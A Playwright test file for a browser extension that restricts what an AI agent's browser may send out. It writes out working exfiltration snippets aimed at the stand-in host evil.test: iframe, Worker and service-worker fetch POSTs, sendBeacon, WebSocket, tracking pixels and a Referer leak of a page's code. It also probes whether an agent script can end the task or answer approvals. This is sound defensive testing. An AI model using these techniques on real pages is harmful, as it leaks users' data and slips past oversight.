import type { Page } from '@playwright/test';
import { expect, test } from './fixtures/extension';
import type { TaskPolicyInput } from '../src/core/policy';
import type { AgentBrowser } from '../src/harness';
import type { TestServer } from './fixtures/server';
import { openApp, quiet } from './background.helpers';

/**
 * The network floor alone: the extension WITHOUT the MAIN-world hooks (AF_NO_MAIN_HOOKS build), so
 * nothing but declarativeNetRequest stands between page code and the network. The server's request log
 * is the truth. Each attack also runs without the extension (negative control: it reaches the server).
 */


const readOnly: TaskPolicyInput = { version: 1, taskId: 't-floor', issuedAt: 0, expiresAt: null, domains: ['app.test'] };
const openWeb: TaskPolicyInput = { ...readOnly, taskId: 't-open', domains: null };

/** Page-side attacks on evil.test, each with its own path. Natives come from places a hook cannot reach. */
const ATTACKS: Record<string, string> = {
  'fetch POST through a native restored from a fresh iframe': `(() => { const f = document.createElement('iframe'); document.body.appendChild(f);
     return f.contentWindow.fetch(EVIL + '/iframe-post', { method: 'POST', body: 'secret=1' }).catch(() => 0); })()`,
  'sendBeacon': `navigator.sendBeacon(EVIL + '/beacon', 'secret=1')`,
  'fetch POST from a Worker': `new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + EVIL + "/worker-post', { method: 'POST', body: 'secret=1' }).then(() => postMessage(1), () => postMessage(0))"], { type: 'text/javascript' }))); w.onmessage = done; setTimeout(done, 3000); })`,
  // A dependency with no session data within 96 characters is a page's dependency now (issue 37): this one carries more.
  'image pixel with a query': `new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = EVIL + '/pixel?d=' + 'hello-'.repeat(20); })`,
  'GET fetch off the list': `fetch(EVIL + '/get').catch(() => 0)`,
  'WebSocket': `new Promise((done) => { const s = new WebSocket(EVIL.replace('http', 'ws') + '/ws'); s.onopen = () => { s.send('secret'); done(1); }; s.onerror = () => done(0); setTimeout(done, 3000); })`,
};

async function runAttack(page: Page, server: TestServer, source: string): Promise<void> {
  await page.evaluate(([evil, code]) => (0, eval)(`const EVIL = ${JSON.stringify(evil)}; ${code}`), [server.origin('evil.test'), source] as const);
}

/** Runs every attack in one browser (a fresh page each) and returns the evil.test requests per attack. */
async function attackAll(browser: AgentBrowser, server: TestServer): Promise<Record<string, number>> {
  const reached: Record<string, number> = {};
  for (const [name, source] of Object.entries(ATTACKS)) {
    server.clearLog();
    const page = await openApp(browser, server);
    await runAttack(page, server, source);
    await quiet(page);
    reached[name] = server.requests().filter((r) => r.host === 'evil.test').length;
    await page.close();
  }
  return reached;
}

test('the floor alone (no MAIN-world hooks) stops every attack on evil.test', async ({ launchFence, server }) => {
  const browser = await launchFence({ mainHooks: false });
  await browser.setPolicy(readOnly);
  const reached = await attackAll(browser, server);
  expect(reached).toEqual(Object.fromEntries(Object.keys(ATTACKS).map((name) => [name, 0])));
  // Each refusal is in the audit log, from the network layer, with the site and the check that refuses it
  // (a read-only task: writes stop at the class ceiling, reads off the list at the site list).
  await expect
    .poll(async () => {
      const entries = (await browser.audit({ decision: 'BLOCK' })).filter((e) => e.layer === 'network' && e.record.targets.domains.includes('evil.test'));
      return [...new Set(entries.map((e) => `${e.record.capability} ${e.record.check}`))].sort();
    })
    .toEqual(['message.send ceiling', 'web.read domain_allowlist', 'web.socket ceiling', 'web.write ceiling']);
});

test('negative control: without the extension every attack reaches evil.test', async ({ launchFence, server }) => {
  const browser = await launchFence({ extension: false });
  const reached = await attackAll(browser, server);
  for (const [name, count] of Object.entries(reached)) expect(count, name).toBeGreaterThan(0);
});

async function gotoEvil(browser: AgentBrowser, server: TestServer, path: string): Promise<Page> {
  const page = await openApp(browser, server);
  await page.goto(`${server.origin('evil.test')}${path}`).catch(() => undefined);
  return page;
}

test('a navigation off the list lands on the blocked page; "Ask the user" + "Allow once" lets it through', async ({ launchFence, server }) => {
  const browser = await launchFence({ mainHooks: false });
  await browser.setPolicy(readOnly);
  const page = await gotoEvil(browser, server, '/nav');
  await expect(page).toHaveURL(new RegExp(`^chrome-extension://${browser.extensionId}/blocked.html\\?check=domain_allowlist`));
  await expect(page.locator('#url')).toHaveText(`${server.origin('evil.test')}/nav`);
  expect(server.hits('/nav', 'evil.test')).toHaveLength(0);
  const floorEntries = await browser.audit({ check: 'domain_allowlist' });
  expect(floorEntries.some((e) => e.layer === 'network' && e.record.decision === 'BLOCK')).toBe(true);

  await page.getByRole('button', { name: 'Ask the user' }).click();
  const [ask] = await browser.waitForApprovals(1);
  expect(ask!.tool).toBe('browser.navigate');
  await browser.answer(ask!.id, 'once');
  await expect(page).toHaveURL(`${server.origin('evil.test')}/nav`);
  expect(server.hits('/nav', 'evil.test')).toHaveLength(1);
});

test('the blocked page is sandboxed: a script the agent registers for every document finds no extension API there (so it cannot end the task or answer approvals); asking still works and a refusal shows', async ({ launchFence, server }) => {
  const browser = await launchFence({ mainHooks: false });
  const probe = () => {
    const api = (globalThis as { chrome?: { runtime?: { sendMessage?: (m: unknown) => Promise<unknown> }; extension?: { getViews?: unknown } } }).chrome;
    (globalThis as Record<string, unknown>).__reach = { runtime: typeof api?.runtime?.sendMessage, views: typeof api?.extension?.getViews };
    api?.runtime?.sendMessage?.({ type: 'task.end' }).catch(() => undefined);
  };
  // Control: in an extension page with APIs (opened before the task: a guarded tab may not open one), the same script reaches them.
  const extensionPage = await browser.context.newPage();
  await extensionPage.addInitScript(probe);
  await extensionPage.goto(`chrome-extension://${browser.extensionId}/options.html`);
  expect(await extensionPage.evaluate(() => (globalThis as Record<string, unknown>).__reach)).toEqual({ runtime: 'function', views: 'function' });
  await browser.setPolicy(readOnly);
  const page = await openApp(browser, server);
  await page.addInitScript(probe);
  await page.goto(`${server.origin('evil.test')}/nav`).catch(() => undefined);
  await expect(page).toHaveURL(new RegExp(`^chrome-extension://${browser.extensionId}/blocked.html\\?check=domain_allowlist`));
  expect(await page.evaluate(() => (globalThis as Record<string, unknown>).__reach)).toEqual({ runtime: 'undefined', views: 'undefined' });
  expect((await browser.snapshot()).task?.taskId).toBe(readOnly.taskId);

  await page.getByRole('button', { name: 'Ask the user' }).click();
  const [ask] = await browser.waitForApprovals(1);
  await browser.answer(ask!.id, 'deny');
  await expect(page.locator('#status')).toContainText('Not allowed');
  expect(server.hits('/nav', 'evil.test')).toHaveLength(0);
});

test('open-web reading: ordinary GETs pass, exfiltration-shaped URLs and writes do not', async ({ launchFence, server }) => {
  const browser = await launchFence({ mainHooks: false });
  await browser.setPolicy(openWeb);
  const page = await openApp(browser, server);
  const token = 'Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1ub3A';
  await page.evaluate((evil) => {
    const img = (src: string) => new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = src; });
    return Promise.all([
      img(`${evil}/ok?q=blue+shoes`),
      img(`${evil}/token?d=${'Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1ub3A'}`),
      img(`${evil}/mail?to=alice%40corp.test`),
      fetch(`${evil}/post`, { method: 'POST', body: 'x' }).catch(() => 0),
    ]);
  }, server.origin('evil.test'));
  await quiet(page);
  expect(server.hits('/ok', 'evil.test')).toHaveLength(1);
  expect(server.hits('/token', 'evil.test')).toHaveLength(0);
  expect(server.hits('/mail', 'evil.test')).toHaveLength(0);
  expect(server.hits('/post', 'evil.test')).toHaveLength(0);
  const exfilNav = await gotoEvil(browser, server, `/nav?d=${token}`);
  await expect(exfilNav).toHaveURL(/blocked\.html\?check=exfiltration_url/);
});

/**
 * A page writes what it shows into its own URL (`history.replaceState`, no request) and asks for the whole
 * URL as the referrer of a dependency from a site the task does not name: the image's URL is clean, so the
 * dependency rules and the taint let it load, and its `Referer` carried the page's data. The floor removes
 * the header for sites the task does not name; the task's own site still gets it.
 */
async function refererLeak(browser: AgentBrowser, server: TestServer): Promise<(string | undefined)[]> {
  server.setPage('/account', '<!doctype html><title>account</title><p>Your code: 482913</p>');
  const page = await browser.context.newPage();
  await page.goto(`${server.origin('app.test')}/account`);
  await page.evaluate((evil) => {
    history.replaceState(null, '', `/account?d=${encodeURIComponent(document.body.innerText)}`);
    document.body.insertAdjacentHTML('beforeend', `<img referrerpolicy="unsafe-url" src="${evil}/pixel/r.gif"><img referrerpolicy="unsafe-url" src="/pixel/own.gif">`);
  }, server.origin('evil.test'));
  await server.waitFor('/pixel/r.gif', 'evil.test').catch(() => undefined);
  await server.waitFor('/pixel/own.gif', 'app.test');
  await quiet(page, 300);
  return [...server.hits('/pixel/r.gif', 'evil.test'), ...server.hits('/pixel/own.gif', 'app.test')].map((r) => `${r.host} ${r.referer ?? 'no referer'}`);
}

test('the floor alone: an allowed dependency from an unnamed site carries no Referer, so not the data a page put in its own URL', async ({ launchFence, server }) => {
  const browser = await launchFence({ mainHooks: false });
  await browser.setPolicy(readOnly);
  const own = `http://app.test:${server.port}/account?d=Your%20code%3A%20482913`;
  expect(await refererLeak(browser, server)).toEqual(['evil.test no referer', `app.test ${own}`]);
});

test('negative control: without the extension the Referer carries the code to evil.test', async ({ launchFence, server }) => {
  const browser = await launchFence({ extension: false });
  const [evil] = await refererLeak(browser, server);
  expect(evil).toContain('482913');
});

/**
 * A service worker answers a navigation its scope covers without a network request, so no rule refuses it.
 * A site the task does not name (`evil.localhost`, whose worker was registered on a visit before the task)
 * is opened in the guarded tab with the code the task's page showed in its address; the worker sees the URL
 * and POSTs it home. Its requests have no tab, and the floor judged only the workers of the task's sites.
 * Now every worker but the extension's own is judged: the POST is refused. (The navigation itself still
 * commits from the worker — docs/limits.md, limit 32.)
 */
const EXFIL_WORKER = `
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => {
  if (e.request.mode !== 'navigate') return;
  const search = new URL(e.request.url).search;
  e.waitUntil(fetch('/collect-sw', { method: 'POST', body: search }).catch(() => 0));
  e.respondWith(new Response('<!doctype html><title>from the worker</title>', { headers: { 'content-type': 'text/html' } }));
});`;

async function workerServedNavigation(browser: AgentBrowser, server: TestServer, guarded: boolean): Promise<{ title: string; collected: string[] }> {
  server.setPage('/sw.js', { body: EXFIL_WORKER, contentType: 'text/javascript' });
  server.setPage('/home', '<!doctype html><title>evil</title>');
  server.setPage('/account', '<!doctype html><title>account</title><p>Your code: 482913</p>');
  const evil = server.origin('evil.localhost');
  const before = await browser.context.newPage();
  await before.goto(`${evil}/home`);
  await before.evaluate(async () => {
    await navigator.serviceWorker.register('/sw.js');
    await navigator.serviceWorker.ready;
  });
  await before.close();
  if (guarded) await browser.setPolicy(readOnly);
  const page = await browser.context.newPage();
  await page.goto(`${server.origin('app.test')}/account`);
  const code = /\d{6}/.exec(await page.locator('p').innerText())![0];
  await page.goto(`${evil}/landing?c=${code}`).catch(() => undefined);
  await server.waitFor('/collect-sw', 'evil.localhost', 1_500).catch(() => undefined);
  return { title: await page.title(), collected: server.hits('/collect-sw').map((r) => r.body) };
}

test('the floor alone: a service worker of a site the task does not name cannot send what a navigation it answered carried', async ({ launchFence, server }) => {
  const browser = await launchFence({ mainHooks: false });
  expect(await workerServedNavigation(browser, server, true)).toEqual({ title: 'from the worker', collected: [] });
});

test('negative control: without the extension the service worker POSTs the code', async ({ launchFence, server }) => {
  const browser = await launchFence({ extension: false });
  expect(await workerServedNavigation(browser, server, false)).toEqual({ title: 'from the worker', collected: ['?c=482913'] });
});
